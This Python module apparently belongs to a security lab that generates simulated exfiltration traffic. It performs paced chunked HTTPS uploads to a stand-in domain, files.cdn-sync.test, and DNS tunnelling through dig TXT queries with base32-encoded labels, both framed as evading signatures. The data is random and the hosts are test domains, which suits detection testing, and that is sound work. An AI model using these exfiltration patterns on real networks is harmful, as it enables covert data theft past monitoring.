"""Data leaves: by TLS, where no signature sees it, and by DNS."""

from __future__ import annotations

import base64
from random import Random

from lab.activity import Lab
from lab.attack import Paced
from lab.web import Request, fetch

PART_BYTES = 1_200_000


def upload(lab: Lab, rng: Random, size: float) -> str:
    """Upload a bundle in parts from the AI host to a site that nobody has visited before."""
    parts = max(1, int(6 * size))
    bundle = lab.network.work / "bundle.bin"
    bundle.write_bytes(rng.randbytes(PART_BYTES))
    uploaded = 0
    for step in Paced(parts, 36 * size):
        target = f"https://files.cdn-sync.test/up/{step}"
        uploaded += fetch(lab.network, "ai", [Request(target, {"Expect": ""}, upload=bundle)])
    total = parts * PART_BYTES / 1e6
    return f"{parts} HTTPS uploads of {PART_BYTES} bytes, {total:.1f} MB in all, to files.cdn-sync.test; {uploaded} accepted"


def tunnel(lab: Lab, rng: Random, size: float) -> str:
    """TXT queries with data in their labels."""
    bursts, each = max(3, int(30 * size)), 10
    resolver, sent = lab.network.address("dns"), 0
    for burst in Paced(bursts, 36 * size):
        names = [_tunnel_name(rng, burst * each + number) for number in range(each)]
        queries = [word for name in names for word in (name, "TXT")]
        done = lab.network.run("ws1", ["dig", f"@{resolver}", "+tries=1", "+time=2", "+noall", "+comments", *queries])
        sent += done.stdout.count("status: ")
    return f"{bursts * each} TXT queries with two long random labels below t.cdn-sync.test; {sent} answered (no data)"


def _tunnel_name(rng: Random, number: int) -> str:
    labels = [base64.b32encode(rng.randbytes(30)).decode().lower().rstrip("=") for _ in range(2)]
    return f"{number:04x}.{labels[0]}.{labels[1]}.t.cdn-sync.test"
